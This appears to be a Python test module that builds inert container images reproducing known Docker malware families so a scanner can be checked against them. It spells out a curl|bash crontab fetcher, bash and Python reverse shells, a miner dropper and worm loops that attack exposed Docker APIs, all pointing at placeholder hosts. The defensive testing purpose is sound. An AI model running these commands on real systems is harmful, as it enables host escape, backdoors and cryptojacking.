"""Harmless reproductions of the attack families of THREATS.md §1, as images the tests build and vet.

Every image here is inert: "binaries" are a few bytes of ELF header followed by the marker strings the real
tool carries, C2 addresses come from the RFC 5737 ranges or ``*.invalid`` (a few published IOCs from
THREATS.md appear as plain text on purpose), and wallets are synthetic. Scripts are reproduced as text so
that a scanner sees what it would see in the real image; nothing here is ever executed.

Each :class:`ThreatImage` carries its own expectations (minimum verdict, categories), so the corpus test
and ``python -m tests.corpus.malicious_report`` judge the real pipeline the same way (:func:`check_report`).
"""

from __future__ import annotations

import base64
import hashlib
import json
import tempfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import AbstractContextManager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, BinaryIO

from tests.support.oci import CREATED, FileSpec, LayerBlob, tar_layer, whiteout, write_image_layout
from workers.domain import Category, Digest, Finding, ScanReport, Verdict
from workers.registry import FetchedManifest
from workers.sources import OciLayoutSource

LayerFiles = Mapping[str, bytes | FileSpec]
LayerSource = LayerFiles | Callable[[], LayerBlob]

# --- synthetic indicators ---------------------------------------------------------------------------------------

# Monero mainnet standard addresses (network byte 0x12 + 64 bytes + first 4 bytes of Keccak-256, in Monero's
# 8-byte-block base58). The payloads are sha256("tollgate synthetic wallet N") pairs, so nobody holds the keys;
# the values were produced with workers.scanners.wallets.encode_monero_address and are pinned here so that the
# corpus does not change when that module does. test_malicious_corpus checks which are checksum-valid.
WALLET_VALID = "48kA7guNuJYd9ne52qxo53CvmQHQ8Pott3vAnRkr9JK5YryNrfQ19tjLVpCtufaLUPKVHmY7rsPsiNi5byPAMUfnCvgAi4p"
WALLET_VALID_2 = "43bikeQfLMJXunfpzZi9rUEQv2541XLP18jUPXxKvayqgnReBMpHiyRLJTFMY43rAnLCAhZJ8CJ2J7y4CBMAfAhWGsVN17Z"
# Same body as WALLET_VALID with the checksum bytes inverted: right shape, wrong checksum.
WALLET_BAD_CHECKSUM = "48kA7guNuJYd9ne52qxo53CvmQHQ8Pott3vAnRkr9JK5YryNrfQ19tjLVpCtufaLUPKVHmY7rsPsiNi5byPAMUfnCt2zS3P"
# A Dero address has no checksum scanners know about; this one only has the bech32-looking shape.
DERO_WALLET = "dero1qyw4fl3dupcg5qlrcsvcedze507q9u67lxfpu8kgnzp04aq73yheqqg2ctjn4"

# Published IOCs from THREATS.md §1.4, reproduced deliberately as inert text (what a feed-based rule would match).
KINSING_IP = "142.44.191.122"
KINSING_IP_2 = "195.3.146.118"
PUBLISHED_IOC_IPS = frozenset({KINSING_IP, KINSING_IP_2})


def _seeded(label: str, size: int) -> bytes:
    """Deterministic pseudo-random bytes, so every build of the corpus has the same digests."""
    out = b""
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(f"{label}:{counter}".encode()).digest()
        counter += 1
    return out[:size]


def _ssh_ed25519(label: str, comment: str) -> str:
    """A well-formed ssh-ed25519 public key line whose point is random bytes (no private key exists)."""
    blob = b"\0\0\0\x0bssh-ed25519" + b"\0\0\0\x20" + _seeded(label, 32)
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} {comment}"


ATTACKER_KEY = _ssh_ed25519("attacker key", "root@vps-203-0-113-9")


def fake_elf(*markers: str) -> bytes:
    """A 64-byte ELF64 header stub (magic, class, endianness, version, zeros) followed by NUL-separated markers.

    It is not executable; it only looks like a binary to content scanners (the magic is what YARA's
    ``uint32(0) == 0x464c457f`` checks), and carries the strings the real tool would contain.
    """
    header = b"\x7fELF\x02\x01\x01" + b"\0" * 57
    return header + b"\0".join(m.encode() for m in markers) + b"\0"


def _exe(data: bytes) -> FileSpec:
    return FileSpec.file(data, 0o755)


def _script(text: str) -> FileSpec:
    return FileSpec.file(text.encode(), 0o755)


def xmrig_binary(version: str = "6.21.0") -> bytes:
    """A fake XMRig: the banner, algorithm names and option strings of the real binary."""
    return fake_elf(
        f"XMRig {version}",
        "built on Jan 12 2024 with GCC 13.2.0",
        "randomx",
        "rx/0",
        "cryptonight",
        "cn/r",
        "donate-level",
        "--donate-level=N",
        "stratum+tcp://",
        "stratum+ssl://",
        "max-threads-hint",
        "https://xmrig.com/wallet",
        "huge pages",
    )


def xmrig_config(pool: str, user: str, *, background: bool = False, donate: int = 1) -> bytes:
    """An XMRig ``config.json``: a pools list plus the tuning keys the real file has."""
    config = {
        "autosave": True,
        "background": background,
        "donate-level": donate,
        "cpu": {"enabled": True, "huge-pages": True, "max-threads-hint": 100},
        "randomx": {"init": -1, "mode": "auto", "1gb-pages": False},
        "pools": [
            {
                "algo": None,
                "coin": "monero",
                "url": pool,
                "user": user,
                "pass": "x",
                "keepalive": True,
                "tls": False,
                "nicehash": False,
            }
        ],
    }
    return (json.dumps(config, indent=4) + "\n").encode()


def docker_client() -> bytes:
    """A fake docker CLI: benign strings of the real client (a docker client alone is not malicious)."""
    return fake_elf(
        "Docker version %s, build %s",
        "github.com/docker/cli/cli/command/container",
        "DOCKER_HOST",
        "Usage:  docker [OPTIONS] COMMAND",
        "A self-sufficient runtime for containers",
        "Go build ID:",
    )


# --- synthetic base layers --------------------------------------------------------------------------------------

_PASSWD = (
    "root:x:0:0:root:/root:{shell}\n"
    "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    "bin:x:2:2:bin:/bin:/usr/sbin/nologin\n"
    "sys:x:3:3:sys:/dev:/usr/sbin/nologin\n"
    "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"
)
_GROUP = "root:x:0:\ndaemon:x:1:\nbin:x:2:\nsys:x:3:\nadm:x:4:\ntty:x:5:\nnogroup:x:65534:\n"


def _dirs(*names: str) -> dict[str, bytes | FileSpec]:
    return {
        name: FileSpec.dir(0o1777 if name in ("tmp", "var/tmp") else 0o700 if name == "root" else 0o755)
        for name in names
    }


def alpine_base() -> dict[str, bytes | FileSpec]:
    """A busybox userland shaped like alpine-minirootfs 3.19 (including its benign periodic crontab)."""
    files = _dirs(
        "bin",
        "etc",
        "etc/apk",
        "etc/crontabs",
        "lib",
        "lib/apk",
        "lib/apk/db",
        "root",
        "sbin",
        "tmp",
        "usr",
        "usr/bin",
        "usr/sbin",
        "usr/local",
        "usr/local/bin",
        "var",
        "var/tmp",
        "var/spool",
        "var/spool/cron",
    )
    files["bin/busybox"] = _exe(
        fake_elf("BusyBox v1.36.1 (2023-11-07 18:53:09 UTC) multi-call binary.", "Usage: busybox [function [ar")
    )
    for applet in ("sh", "ash", "ls", "cat", "echo", "sleep", "chmod", "mkdir", "rm", "ps", "grep", "wget", "nc"):
        files[f"bin/{applet}"] = FileSpec.symlink("/bin/busybox")
    files["sbin/crond"] = FileSpec.symlink("/bin/busybox")
    files["etc/os-release"] = (
        b'NAME="Alpine Linux"\nID=alpine\nVERSION_ID=3.19.1\nPRETTY_NAME="Alpine Linux v3.19"\n'
        b'HOME_URL="https://alpinelinux.org/"\nBUG_REPORT_URL="https://gitlab.alpinelinux.org/alpine/aports/-/issues"\n'
    )
    files["etc/alpine-release"] = b"3.19.1\n"
    files["etc/passwd"] = _PASSWD.format(shell="/bin/ash").encode()
    files["etc/group"] = _GROUP.encode()
    files["etc/shadow"] = FileSpec.file(b"root:*::0:::::\nnobody:!::0:::::\n", 0o640)
    files["etc/hostname"] = b"localhost\n"
    files["etc/profile"] = b'export PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\numask 022\n'
    # Alpine's stock root crontab: cron lines that run local maintenance, the benign look-alike of §3.
    files["etc/crontabs/root"] = FileSpec.file(
        b"# do daily/weekly/monthly maintenance\n# min\thour\tday\tmonth\tweekday\tcommand\n"
        b"*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min\n0\t*\t*\t*\t*\trun-parts /etc/periodic/hourly\n"
        b"0\t2\t*\t*\t*\trun-parts /etc/periodic/daily\n",
        0o600,
    )
    files["etc/apk/world"] = b"alpine-baselayout\nalpine-keys\napk-tools\nbusybox\nlibc-utils\n"
    files["lib/apk/db/installed"] = (
        b"C:Q1t4mQJxKqT0vAzxGHe8tjYl2nXkY=\nP:busybox\nV:1.36.1-r15\nA:x86_64\nF:bin\nR:busybox\n\n"
    )
    return files


def ubuntu_base(version: str = "18.04", codename: str = "bionic") -> dict[str, bytes | FileSpec]:
    """An Ubuntu-shaped root with dpkg metadata and the benign look-alikes every Debian-family base carries."""
    files = _dirs(
        "bin",
        "etc",
        "etc/cron.d",
        "etc/cron.daily",
        "etc/ssh",
        "etc/systemd",
        "etc/systemd/system",
        "lib",
        "root",
        "sbin",
        "tmp",
        "usr",
        "usr/bin",
        "usr/sbin",
        "usr/local",
        "usr/local/bin",
        "var",
        "var/lib",
        "var/lib/dpkg",
        "var/spool",
        "var/spool/cron",
        "var/spool/cron/crontabs",
        "var/tmp",
        "var/log",
    )
    # bash itself documents /dev/tcp; the string in the binary is a §3 look-alike, not a reverse shell.
    files["bin/bash"] = _exe(fake_elf("GNU bash, version 4.4.20(1)-release", "/dev/tcp", "/dev/udp", "HISTFILE"))
    files["bin/sh"] = FileSpec.symlink("dash")
    files["bin/dash"] = _exe(fake_elf("dash", "Usage: sh [-abCefhimnuvx]"))
    for tool in ("ls", "cat", "sleep", "chmod", "rm", "mkdir", "ps", "grep", "tail"):
        files[f"bin/{tool}"] = _exe(fake_elf(f"GNU coreutils {tool}", "Copyright (C) 2017 Free Software Foundation"))
    files["usr/bin/chattr"] = _exe(fake_elf("Usage: %s [-pRVf] [-+=aAcCdDeijPsStTuF] [-v version] files..."))
    files["usr/bin/nsenter"] = _exe(fake_elf("nsenter from util-linux 2.31.1", "--target <pid>"))
    files["usr/sbin/chroot"] = _exe(fake_elf("Usage: %s [OPTION] NEWROOT [COMMAND [ARG]...]"))
    files["etc/os-release"] = (
        f'NAME="Ubuntu"\nVERSION="{version} LTS"\nID=ubuntu\nID_LIKE=debian\nVERSION_ID="{version}"\n'
        f"VERSION_CODENAME={codename}\nUBUNTU_CODENAME={codename}\n"
    ).encode()
    files["etc/debian_version"] = b"buster/sid\n"
    files["etc/passwd"] = _PASSWD.format(shell="/bin/bash").encode()
    files["etc/group"] = _GROUP.encode()
    files["etc/shadow"] = FileSpec.file(b"root:*:19000:0:99999:7:::\n", 0o640)
    files["etc/hostname"] = b"ubuntu\n"
    # e2fsprogs' cron entry is present in every Debian-family image (THREATS.md §3).
    files["etc/cron.d/e2scrub_all"] = (
        b"30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 "
        b"/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n"
        b"10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n"
    )
    files["etc/cron.daily/dpkg"] = _script(
        "#!/bin/sh\n\n# Backup the 7 last versions of dpkg databases containing user data.\n"
        "if [ -x /usr/bin/dpkg-db-backup ]; then\n    /usr/bin/dpkg-db-backup\nfi\n"
    )
    files["var/lib/dpkg/status"] = (
        b"Package: bash\nStatus: install ok installed\nPriority: required\nVersion: 4.4.18-2ubuntu1\n\n"
        b"Package: coreutils\nStatus: install ok installed\nPriority: required\nVersion: 8.28-1ubuntu1\n\n"
        b"Package: e2fsprogs\nStatus: install ok installed\nPriority: required\nVersion: 1.44.1-1\n\n"
    )
    return files


def centos_base() -> dict[str, bytes | FileSpec]:
    """A CentOS 7-shaped root (usrmerge: /bin is a link to usr/bin)."""
    files = _dirs(
        "etc",
        "root",
        "tmp",
        "usr",
        "usr/bin",
        "usr/sbin",
        "usr/local",
        "usr/local/bin",
        "var",
        "var/lib",
        "var/lib/rpm",
        "var/tmp",
        "var/spool",
        "var/spool/cron",
    )
    files["bin"] = FileSpec.symlink("usr/bin")
    files["sbin"] = FileSpec.symlink("usr/sbin")
    files["usr/bin/bash"] = _exe(fake_elf("GNU bash, version 4.2.46(2)-release", "/dev/tcp"))
    files["usr/bin/sh"] = FileSpec.symlink("bash")
    for tool in ("ls", "cat", "sleep", "chmod", "rm", "ps", "grep", "curl"):
        files[f"usr/bin/{tool}"] = _exe(fake_elf(f"{tool} (CentOS 7)"))
    files["etc/os-release"] = (
        b'NAME="CentOS Linux"\nVERSION="7 (Core)"\nID="centos"\nID_LIKE="rhel fedora"\nVERSION_ID="7"\n'
        b'PRETTY_NAME="CentOS Linux 7 (Core)"\n'
    )
    files["etc/centos-release"] = b"CentOS Linux release 7.6.1810 (Core)\n"
    files["etc/passwd"] = _PASSWD.format(shell="/bin/bash").encode()
    files["etc/group"] = _GROUP.encode()
    files["etc/hostname"] = b"localhost.localdomain\n"
    return files


# --- the image description --------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Step:
    """One build step as ``docker history`` shows it; ``layer=None`` is an empty-layer step (ENV, CMD …)."""

    created_by: str
    layer: LayerSource | None = None


@dataclass(frozen=True)
class ThreatImage:
    """One corpus image: how it is built, where it is pushed, and what vetting it must conclude."""

    id: str
    family: str  # the THREATS.md section it reproduces
    repository: str
    tag: str
    summary: str
    steps: tuple[Step, ...]
    config: Mapping[str, Any]  # the image config's "config" object (Entrypoint, Cmd, Env, …)
    verdict: Verdict  # the minimum acceptable verdict
    categories: frozenset[Category]  # all must be present among unwaived findings
    forbidden: frozenset[Category] = frozenset()  # must not be claimed (an open miner is not a backdoor)
    deleted: tuple[str, ...] = ()  # paths removed by a later layer whose findings must say in_final_fs False
    config_only: bool = False  # the attack is in the config alone: no file finding may exist
    author: str | None = None

    def layers(self) -> list[LayerBlob]:
        """The layer blobs, bottom first."""
        blobs = []
        for step in self.steps:
            if step.layer is None:
                continue
            blobs.append(step.layer() if callable(step.layer) else tar_layer(step.layer))
        return blobs

    def image_config(self, layers: Sequence[LayerBlob]) -> dict[str, Any]:
        """The full config document overrides: runtime config, history aligned with the layers."""
        history: list[dict[str, Any]] = []
        for step in self.steps:
            entry: dict[str, Any] = {"created": CREATED, "created_by": step.created_by}
            if step.layer is None:
                entry["empty_layer"] = True
            if step.created_by.endswith("# buildkit"):
                entry["comment"] = "buildkit.dockerfile.v0"
            history.append(entry)
        document: dict[str, Any] = {"config": dict(self.config), "history": history}
        if self.author:
            document["author"] = self.author
        return document


@dataclass(frozen=True)
class BuiltImage:
    """A corpus image written as an OCI layout."""

    path: Path
    digest: str
    layer_digests: tuple[str, ...]


def build(image: ThreatImage, path: Path) -> BuiltImage:
    """Write ``image`` as an OCI layout at ``path``."""
    layers = image.layers()
    digest = write_image_layout(path, layers, config=image.image_config(layers), ref_name=image.tag)
    return BuiltImage(path=path, digest=digest, layer_digests=tuple(layer.digest for layer in layers))


class NamedLayoutSource:
    """An OCI layout read as if it had been pushed under ``repository`` (name checks see the real name)."""

    def __init__(self, path: Path, repository: str, ref_name: str | None = None) -> None:
        self._inner = OciLayoutSource(path, ref_name)
        self._repository = repository

    @property
    def name(self) -> str:
        """The layout, labelled with the repository it stands for."""
        return f"{self._inner.name} as {self._repository}"

    @property
    def repository(self) -> str:
        """The repository the image was pushed under."""
        return self._repository

    def get_manifest(self, reference: str) -> FetchedManifest:
        """Delegate to the layout."""
        return self._inner.get_manifest(reference)

    def get_blob(self, digest: Digest, *, max_bytes: int) -> bytes:
        """Delegate to the layout."""
        return self._inner.get_blob(digest, max_bytes=max_bytes)

    def open_blob(self, digest: Digest, *, expected_size: int | None = None) -> AbstractContextManager[BinaryIO]:
        """Delegate to the layout."""
        return self._inner.open_blob(digest, expected_size=expected_size)


def vet(image: ThreatImage, workdir: Path, *, rules_dir: Path | None = None) -> tuple[ScanReport, BuiltImage]:
    """Build ``image`` under ``workdir`` and vet it with the real pipeline, default settings and shipped rules.

    ``rules_dir`` replaces the shipped rules (the report uses it to measure another ruleset, e.g. a commit's).
    """
    from workers.pipeline import Vetter, load_scanners
    from workers.settings import Settings

    built = build(image, workdir / image.id)
    settings = Settings()  # the defaults, not the caller's TOLLGATE_* environment
    scanners = load_scanners(
        rules_dir or settings.rules_dir,
        settings.rules_extra,
        protected_names=settings.protected_names,
        trusted_namespaces=settings.trusted_namespaces,
    )
    source = NamedLayoutSource(built.path, image.repository, image.tag)
    report = Vetter(scanners, limits=settings.limits).vet(source, "")
    return report, built


def vet_all(
    images: Sequence[ThreatImage], *, rules_dir: Path | None = None
) -> Iterator[tuple[ThreatImage, ScanReport, BuiltImage]]:
    """Vet each image in a temporary directory of its own (for the report)."""
    for image in images:
        with tempfile.TemporaryDirectory(prefix="tollgate-corpus-") as tmp:
            report, built = vet(image, Path(tmp), rules_dir=rules_dir)
            yield image, report, built


# --- judging a report -------------------------------------------------------------------------------------------

_RANK = {Verdict.CLEAN: 0, Verdict.SUSPICIOUS: 1, Verdict.MALICIOUS: 2}


def active(report: ScanReport) -> list[Finding]:
    """Unwaived findings."""
    return [f for f in report.findings if not f.waived]


def is_file_finding(finding: Finding) -> bool:
    """A finding about a file's content (integrity findings about refused tar entries excepted)."""
    return finding.path is not None and finding.category is not Category.INTEGRITY


def is_config_finding(finding: Finding) -> bool:
    """A finding about the image config or history (not a file, not the repository name, not integrity)."""
    return (
        finding.path is None
        and finding.layer is None
        and finding.category is not Category.INTEGRITY
        and not finding.rule.startswith("names.")
    )


def check_report(image: ThreatImage, report: ScanReport, built: BuiltImage) -> list[str]:
    """Every way ``report`` falls short of what ``image`` expects; empty when it meets all of it."""
    problems: list[str] = []
    findings = active(report)
    if _RANK[report.verdict] < _RANK[image.verdict]:
        problems.append(f"verdict {report.verdict.value}, expected at least {image.verdict.value}")
    found = {f.category for f in findings}
    missing = sorted(c.value for c in image.categories - found)
    if missing:
        problems.append(f"missing categories: {', '.join(missing)}")
    claimed = sorted(c.value for c in image.forbidden & found)
    if claimed:
        problems.append(f"claims categories it must not: {', '.join(claimed)}")
    for finding in filter(is_file_finding, findings):
        where = f"{finding.rule} on {finding.path}"
        if finding.layer not in built.layer_digests:
            problems.append(f"{where}: layer {finding.layer!r} is not one of the image's layers")
        if finding.in_final_fs is None:
            problems.append(f"{where}: in_final_fs not set")
        if not finding.evidence:
            problems.append(f"{where}: no evidence")
    if image.deleted:
        on_deleted = [f for f in findings if f.path in {"/" + p.lstrip("/") for p in image.deleted}]
        if not any(f.category is Category.MINER and f.in_final_fs is False for f in on_deleted):
            problems.append("no miner finding on the deleted payload with in_final_fs false")
        problems.extend(
            f"{f.rule} on deleted {f.path} says in_final_fs {f.in_final_fs}" for f in on_deleted if f.in_final_fs
        )
    if image.config_only:
        problems.extend(
            f"config-only image has a file finding: {f.rule} on {f.path}" for f in findings if is_file_finding(f)
        )
        if not any(is_config_finding(f) for f in findings):
            problems.append("config-only image has no config finding")
    return problems


def describe(report: ScanReport) -> str:
    """The verdict, its explanation and every unwaived finding, one per line (for failures and the report)."""
    lines = [f"verdict {report.verdict.value}: {report.explanation}"]
    for f in active(report):
        where = f" {f.path} (in_final_fs={f.in_final_fs})" if f.path else " [config]" if f.layer is None else ""
        lines.append(
            f"  - {f.rule} {f.severity.value}/{f.confidence.value} {f.category.value}{where}: {f.evidence or ''}"
        )
    return "\n".join(lines)


# --- the families -----------------------------------------------------------------------------------------------


def _copy(kind: str, dest: str, layer: LayerSource, instruction: str = "COPY") -> Step:
    """A classic-builder COPY/ADD step: ``/bin/sh -c #(nop) COPY file:<sha256> in <dest>`` (kind file or multi)."""
    names = sorted(layer) if isinstance(layer, Mapping) else [getattr(layer, "__name__", "")]
    digest = hashlib.sha256(f"{kind}:{dest}:{names}".encode()).hexdigest()  # stable, distinct per content
    return Step(f"/bin/sh -c #(nop) {instruction} {kind}:{digest} in {dest} ", layer)


def _nop(instruction: str) -> Step:
    return Step(f"/bin/sh -c #(nop)  {instruction}")


def _cmd_step(instruction: str, argv: Sequence[str]) -> Step:
    """A classic-builder CMD or ENTRYPOINT step in exec form (``instruction`` is "Cmd" or "Entrypoint")."""
    return _nop(f"{instruction.upper()} {json.dumps(list(argv))}")


ALPINE_STEPS = (
    _copy("file", "/", alpine_base(), "ADD"),
    Step('/bin/sh -c #(nop)  CMD ["/bin/sh"]'),
)


def _ubuntu_steps(version: str = "18.04", codename: str = "bionic") -> tuple[Step, ...]:
    return (
        _copy("file", "/", ubuntu_base(version, codename), "ADD"),
        Step('/bin/sh -c #(nop)  CMD ["/bin/bash"]'),
    )


CENTOS_STEPS = (
    _copy("file", "/", centos_base(), "ADD"),
    Step("/bin/sh -c #(nop)  LABEL org.label-schema.schema-version=1.0 org.label-schema.name=CentOS Base Image"),
    Step('/bin/sh -c #(nop)  CMD ["/bin/bash"]'),
)


def _docker123321_mysql() -> ThreatImage:
    c2 = "203.0.113.18"
    cmd = [
        "/bin/sh", "-c",
        f"echo '* * * * * curl -s http://{c2}:8220/logo3.jpg | bash -s' >> /mnt/etc/crontabs/root "
        "&& touch /mnt/etc/crontabs/cron.update && tail -f /dev/null",
    ]  # fmt: skip
    return ThreatImage(
        id="1.1-docker123321-mysql-host-cron",
        family="1.1 docker123321",
        repository="docker123321/mysql",
        tag="latest",
        summary="run with host /etc at /mnt/etc, the CMD appends a curl|bash fetcher to the host crontab",
        steps=(*ALPINE_STEPS, _cmd_step("Cmd", cmd)),
        config={"Cmd": cmd},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.HOST_ESCAPE, Category.PERSISTENCE, Category.BACKDOOR}),
    )


def _docker123321_tomcat_revshell() -> ThreatImage:
    cmd = [
        "/bin/sh", "-c",
        "echo '* * * * * root /bin/bash -c \"bash -i >& /dev/tcp/198.51.100.44/4444 0>&1\"' >> /mnt/etc/crontab "
        "&& sleep 2147483647",
    ]  # fmt: skip
    return ThreatImage(
        id="1.1-docker123321-tomcat-cron-reverse-shell",
        family="1.1 docker123321",
        repository="docker123321/tomcat",
        tag="latest",
        summary="CMD writes a bash /dev/tcp reverse shell into the host /etc/crontab (host /etc at /mnt/etc)",
        steps=(*ALPINE_STEPS, _cmd_step("Cmd", cmd)),
        config={"Cmd": cmd},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.HOST_ESCAPE, Category.PERSISTENCE, Category.BACKDOOR}),
    )


def _docker123321_tomcat11_python() -> ThreatImage:
    start = (
        "#!/bin/sh\n"
        "# the host's /var/spool/cron is mounted at /mnt/var/spool/cron\n"
        "cat >> /mnt/var/spool/cron/crontabs/root <<'EOF'\n"
        "*/5 * * * * python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        's.connect(("198.51.100.45",5555));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);'
        'p=subprocess.call(["/bin/sh","-i"]);\'\n'
        "EOF\n"
        "while true; do sleep 3600; done\n"
    )
    return ThreatImage(
        id="1.1-docker123321-tomcat11-cron-python-shell",
        family="1.1 docker123321",
        repository="docker123321/tomcat11",
        tag="latest",
        summary="a start script appends a Python reverse shell to the host's root crontab through a mount",
        steps=(
            *ALPINE_STEPS,
            _copy("file", "/root/", {"root": FileSpec.dir(0o700), "root/start.sh": _script(start)}),
            _cmd_step("Cmd", ["/bin/sh", "/root/start.sh"]),
        ),
        config={"Cmd": ["/bin/sh", "/root/start.sh"]},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.HOST_ESCAPE, Category.PERSISTENCE, Category.BACKDOOR}),
    )


def _docker123321_cron_logo3() -> ThreatImage:
    c2 = "203.0.113.18"
    logo3 = (
        "#!/bin/sh\n"
        "ps auxf|grep -v grep|grep \"stratum\"|awk '{print $2}'|xargs kill -9\n"
        "ps auxf|grep -v grep|grep \"cryptonight\"|awk '{print $2}'|xargs kill -9\n"
        "ps auxf|grep -v grep|grep -- \"-p x\"|awk '{print $2}'|xargs kill -9\n"
        "ps auxf|grep -v grep|grep \"xmrig\"|awk '{print $2}'|xargs kill -9\n"
        "crontab -r\n"
        f'(crontab -l 2>/dev/null; echo "* * * * * curl -s http://{c2}:8220/logo3.jpg | bash -s") | crontab -\n'
        "cd /var/tmp\n"
        "if [ ! -f /var/tmp/jaav ]; then\n"
        f"  curl -s -o /var/tmp/config.json http://{c2}:8220/config_1.json\n"
        f"  curl -s -o /var/tmp/jaav http://{c2}:8220/minerd\n"
        "fi\n"
        "chmod 777 /var/tmp/jaav\n"
        "sysctl -w vm.nr_hugepages=128\n"
        "nohup ./jaav -c config.json -t 2 >/dev/null 2>&1 &\n"
    )
    minerd = fake_elf(
        "cpuminer-multi 1.3.1", "Usage: minerd [OPTIONS]", "-o, --url=URL         URL of mining server",
        "stratum+tcp://", "cryptonight", "Stratum requested work restart", "hashmeter",
    )  # fmt: skip
    minerd_config = json.dumps(
        {"url": f"stratum+tcp://{c2}:3333", "user": WALLET_VALID, "pass": "x", "algo": "cryptonight",
         "threads": 2, "background": True},
        indent=2,
    ).encode()  # fmt: skip
    return ThreatImage(
        id="1.1-docker123321-cron-logo3-jaav",
        family="1.1 docker123321",
        repository="docker123321/cron",
        tag="latest",
        summary="logo3.jpg is a shell script: kills rival miners, re-installs its cron fetcher, runs minerd as jaav",
        steps=(
            *ALPINE_STEPS,
            _copy(
                "multi",
                "/var/tmp/",
                {
                    "var/tmp/logo3.jpg": _script(logo3),
                    "var/tmp/jaav": FileSpec.file(minerd, 0o777),
                    "var/tmp/config.json": minerd_config,
                },
            ),
            _cmd_step("Cmd", ["/bin/sh", "/var/tmp/logo3.jpg"]),
        ),
        config={"Cmd": ["/bin/sh", "/var/tmp/logo3.jpg"]},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.MINER, Category.PERSISTENCE}),
    )


def _graboid_pocosow() -> ThreatImage:
    c2 = "198.51.100.77"
    entry = (
        "#!/bin/bash\n"
        "# every 100 s: report in, spread, balance the miners\n"
        "while true; do\n"
        f"  curl -s http://{c2}/live.sh | bash\n"
        f"  curl -s -o /tmp/ips.txt http://{c2}/ips.txt\n"
        "  IP=$(shuf -n 1 /tmp/ips.txt)\n"
        "  docker -H tcp://$IP:2375 run -dt --restart always pocosow/centos:7.6.1810 /var/sbin/bash\n"
        f"  curl -s http://{c2}/cleanxmr.sh | bash\n"
        "  IP=$(shuf -n 1 /tmp/ips.txt)\n"
        "  docker -H tcp://$IP:2375 run -dt gakeaws/nginx:8.9\n"
        "  sleep 100\n"
        "done\n"
    )
    return ThreatImage(
        id="1.2-graboid-pocosow-centos",
        family="1.2 Graboid",
        repository="pocosow/centos",
        tag="7.6.1810",
        summary="entrypoint script named /var/sbin/bash loops over C2 scripts and docker -H tcp://IP:2375 run",
        steps=(
            *CENTOS_STEPS,
            _copy("file", "/usr/bin/docker", {"usr/bin/docker": _exe(docker_client())}),
            _copy("file", "/var/sbin/bash", {"var/sbin": FileSpec.dir(), "var/sbin/bash": _script(entry)}),
            _cmd_step("Entrypoint", ["/var/sbin/bash"]),
        ),
        config={"Entrypoint": ["/var/sbin/bash"], "Cmd": []},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.WORM, Category.BACKDOOR}),
    )


def _graboid_gakeaws() -> ThreatImage:
    nginx_conf = b"user nginx;\nworker_processes auto;\nevents { worker_connections 1024; }\n"
    return ThreatImage(
        id="1.2-graboid-gakeaws-nginx-xmrig",
        family="1.2 Graboid",
        repository="gakeaws/nginx",
        tag="8.9",
        summary="the miner image Graboid starts: /usr/sbin/nginx is XMRig with its config beside it",
        steps=(
            *ALPINE_STEPS,
            Step(
                "RUN /bin/sh -c mkdir -p /etc/nginx /var/log/nginx # buildkit",
                {
                    "etc/nginx": FileSpec.dir(),
                    "etc/nginx/nginx.conf": nginx_conf,
                    "var/log": FileSpec.dir(),
                    "var/log/nginx": FileSpec.dir(),
                },
            ),
            Step(
                "COPY nginx config.json /usr/sbin/ # buildkit",
                {
                    "usr/sbin/nginx": _exe(xmrig_binary("5.5.0")),
                    "usr/sbin/config.json": xmrig_config("198.51.100.78:443", WALLET_VALID_2),
                },
            ),
            Step('ENTRYPOINT ["/usr/sbin/nginx"] # buildkit'),
        ),
        config={"Entrypoint": ["/usr/sbin/nginx"], "Cmd": []},
        verdict=Verdict.MALICIOUS,
        categories=frozenset({Category.MINER}),
    )


def _zoolu2_alpine() -> ThreatImage:
    entry = (
        "#!/bin/sh\n"
        "/usr/sbin/sshd\n"
        "nohup /root/xmrig -c /root/config.json >/dev/null 2>&1 &\n"
        "while true; do\n"
        "  masscan 0.0.0.0/0 -p2375,2376 --rate=50000 --exclude 255.255.255.255 -oL /tmp/scan.txt\n"
        "  for ip in $(awk '/open/{print $4}' /tmp/scan.txt); do\n"
        "    curl -s -X POST -H 'Content-Type: application/json' http://$ip:2375/containers/create?name=alpine2 "
        '-d \'{"Image":"zoolu2/alpine2","HostConfig":{"Privileged":true,'
        '"RestartPolicy":{"Name":"always"}}}\'\n'
        "    curl -s -X POST http://$ip:2375/containers/alpine2/start\n"
        "  done\n"
        "  sleep 600\n"
        "done\n"
    )
    masscan = fake_elf(
        "Masscan version 1.3.2 ( https://github.com/robertdavidgraham/masscan )",
        "usage: masscan -p80,8000-8100 10.0.0.0/8 --rate=10000",
    )
    return ThreatImage(
        id="1.3-zoolu2-alpine-masscan-worm-miner",
        family="1.3 exposed-API worm images",
        repository="zoolu2/alpine",
        tag="latest",
        summary="masscans for :2375/:2376, creates zoolu2/alpine2 on every open API, mines with XMRig itself",
        steps=(
            *ALPINE_STEPS,
            Step("/bin/sh -c apk add --no-cache openssh curl", {"usr/sbin/sshd": _exe(fake_elf("OpenSSH_9.6p1"))}),
            _copy(
                "multi",
                "/",
                {
                    "root/xmrig": _exe(xmrig_binary("6.2.2")),
                    "root/config.json": xmrig_config("stratum+tcp://203.0.113.25:3333", WALLET_VALID),
                    "usr/bin/masscan": _exe(masscan),
                    "root/ubu.sh": _script(entry),
                },
                "ADD",
            ),
            _cmd_step("Cmd", ["/bin/sh", "/root/ubu.sh"]),
        ),
        config={"Cmd": ["/bin/sh", "/root/ubu.sh"]},
